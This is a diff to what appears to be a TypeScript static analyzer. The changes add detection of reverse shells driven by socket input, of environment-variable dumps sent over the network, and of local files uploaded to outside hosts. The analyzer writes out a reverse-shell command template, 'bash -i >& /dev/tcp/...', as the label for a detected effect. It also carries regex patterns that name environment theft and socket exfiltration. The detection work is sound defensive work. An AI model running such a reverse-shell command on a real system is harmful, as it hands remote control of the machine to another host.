@@ -4,7 +4,7 @@
 // handed to a process's standard streams (a reverse shell). Only literal arguments are read;
 // computed ones are left to the dynamic readings.
 import { codeSecretUrls, DNS_LOOKUP_HINT, foreignBucketWrites, storedSecretSends } from '../egress-code.js';
-import { codeUploads } from '../code-uploads.js';
+import { codeUploads, outside } from '../code-uploads.js';
 import type { Effect } from '../types.js';
 import { argValue, foldConcat, literalValue, skipBrackets, skipString, splitArgs } from './literals.js';
 import { SHELL_PROGRAM, type CallRule, type Language } from './languages.js';
@@ -342,6 +342,11 @@ function envListingNamesOnly(code: string): boolean {
   return true;
 }
 
+/** Reading from a connection, in the words most languages' socket APIs use. */
+const SOCKET_RECEIVES = /\b(?:recv|recvfrom|recv_into|receive|readline|readLine|gets|getline|read_line|read_until)\b/;
+/** Writing to a connection. */
+const SOCKET_SENDS = /\b(?:send|sendall|sendto|send_data|write_all|puts|syswrite)\s*\(/;
+
 export interface CodeAnalysis {
   effects: Effect[];
 }
@@ -356,12 +361,15 @@ export function analyzeCode(lang: Language, code: string, via: string, depth = 0
   const urls: string[] = [];
   let dynamicRun = false;
   let shellSpawn = false;
+  // a process started with a command the code computes (from what a socket received, say)
+  let dynamicExec = false;
   for (const f of found) {
     const k = f.rule.kind;
     if (k === 'exec' || k === 'shell') {
       const cmd = argvOf(f);
       if (cmd === undefined) {
         dynamicRun = true;
+        dynamicExec = true;
         continue;
       }
       if (SHELL_PROGRAM.test(` ${cmd} `)) shellSpawn = true;
@@ -500,7 +508,7 @@ export function analyzeCode(lang: Language, code: string, via: string, depth = 0
   // The whole environment sent somewhere: os.environ / process.env / ENV / %ENV with a network call.
   if (
     (urls.length || connects.length) &&
-    /\bos\.environ\b(?!\s*(?:\.\s*(?:get|setdefault|pop)\b|\[))|dict\(os\.environ\)|\bprocess\.env\b(?!\.)|JSON\.stringify\(process\.env\)|\bENV\.to_h\b|\bENV\.to_a\b|%ENV\b|getenv\(\)|\$_ENV\b|Get-ChildItem\s+env:/i.test(
+    /\bos\.environ\b(?!\s*(?:\.\s*(?:get|setdefault|pop)\b|\[))|dict\(os\.environ\)|\bprocess\.env\b(?!\.)|JSON\.stringify\(process\.env\)|\bENV\.to_h\b|\bENV\.to_a\b|%ENV\b|getenv\(\)|\$_ENV\b|Get-ChildItem\s+env:|System\.get_env\(\s*\)|\bgetEnvironment\b|Unix\.environment\s*\(\)|\bos\.Environ\(\)|\benv::vars(?:_os)?\(\)|GetEnvironmentVariables\(\s*\)|\bENV\.to_hash\b|\bENV\.each\b|\bDict\(\s*ENV\s*\)/i.test(
       c,
     )
   ) {
@@ -518,7 +526,9 @@ export function analyzeCode(lang: Language, code: string, via: string, depth = 0
     connects.length &&
     (((shellSpawn || lang.streamsToProcess.test(c)) &&
       (shellSpawn || dynamicRun || found.some((f) => f.rule.kind === 'exec'))) ||
-      lang.streamIsSession?.test(c))
+      lang.streamIsSession?.test(c) ||
+      // in any language: what the connection receives is run as a command
+      (dynamicExec && SOCKET_RECEIVES.test(c)))
   ) {
     const k = at(connects, 0);
     out.push({
@@ -526,6 +536,21 @@ export function analyzeCode(lang: Language, code: string, via: string, depth = 0
       command: `bash -i >& /dev/tcp/${k.host}/${k.port || '4444'} 0>&1`,
       via: `${via} connects a shell to ${k.host}${k.port ? ':' + k.port : ''}`,
     });
+  }
+  // in any language: a local file read and written to a connection the code opened to a host
+  // outside this machine and its network is that file uploaded there
+  const away = connects.find((k) => outside(k.host));
+  const sentFile = found.find((f) => f.rule.kind === 'read' && pathArg(f) !== undefined);
+  if (away && sentFile && SOCKET_SENDS.test(c)) {
+    const file = pathArg(sentFile) ?? '';
+    out.push(
+      { tool: 'read', path: file, via: `${via} sends ${file} to ${away.host}` },
+      {
+        tool: 'exec',
+        command: `uploads-remote code ${away.host}`,
+        via: `${via} sends ${file} over a connection to ${away.host}`,
+      },
+    );
   }
   // a secret variable built into a URL the code requests, or a host name it looks up (egress-code.ts)
   if (urls.length || DNS_LOOKUP_HINT.test(code)) out.push(...codeSecretUrls(code, via));
